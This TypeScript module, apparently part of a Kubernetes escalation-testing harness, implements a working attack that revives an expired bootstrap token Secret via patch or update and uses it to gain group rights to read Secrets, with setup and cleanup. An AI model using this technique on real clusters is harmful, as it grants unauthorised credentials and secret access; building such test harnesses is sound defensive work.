import { randomBytes } from "node:crypto";
import { must, pathOf } from "../../control-plane/act.ts";
import type { Attack } from "./attack.ts";
import { getUntilAllowed, reader, type Stage } from "./stage.ts";

const NAMESPACE = "kube-system";
const TYPE = "bootstrap.kubernetes.io/token";
const GROUP = "system:bootstrappers:readers";

/** The id of the stage's bootstrap token: six letters and digits. */
function idOf({ unique }: Stage): string {
  return unique.slice(-6);
}

function nameOf(stage: Stage): string {
  return `bootstrap-token-${idOf(stage)}`;
}

/** What makes a token good for the group, whatever it was before; the attacker alone knows its secret part. */
function good(secret: string): Record<string, string> {
  return {
    "token-secret": secret,
    expiration: "2999-01-01T00:00:00Z",
    "usage-bootstrap-authentication": "true",
    "auth-extra-groups": GROUP,
  };
}

export const attacks: Attack[] = ["update", "patch"].map((verb) => ({
  edge: "bootstrap-token-patch",
  how: `${verb} of a token that has expired and is good for nothing, which then is in a group that may read the Secret`,
  rights: (stage) => [{ verb, resource: "secrets", namespace: NAMESPACE, names: [nameOf(stage)] }],
  arrange: async (stage) => {
    await reader(stage, { kind: "Group", name: GROUP });
    await stage.plane.request("DELETE", pathOf("Secret", NAMESPACE, nameOf(stage)));
    await must(stage.plane, "POST", pathOf("Secret", NAMESPACE), {
      metadata: { namespace: NAMESPACE, name: nameOf(stage) },
      type: TYPE,
      stringData: {
        "token-id": idOf(stage),
        "token-secret": randomBytes(8).toString("hex"),
        expiration: "2001-01-01T00:00:00Z",
        "usage-bootstrap-authentication": "false",
      },
    });
  },
  attack: async (stage) => {
    const path = pathOf("Secret", NAMESPACE, nameOf(stage));
    const secret = randomBytes(8).toString("hex");
    if (verb === "patch") {
      const contentType = "application/merge-patch+json";
      await stage.send("PATCH", path, { stringData: good(secret) }, { contentType });
    } else {
      const metadata = { namespace: NAMESPACE, name: nameOf(stage) };
      const stringData = { "token-id": idOf(stage), ...good(secret) };
      await stage.send("PUT", path, { metadata, type: TYPE, stringData });
    }
    const obtained = await getUntilAllowed(stage, { token: `${idOf(stage)}.${secret}` });
    await must(stage.plane, "DELETE", path);
    return obtained;
  },
}));
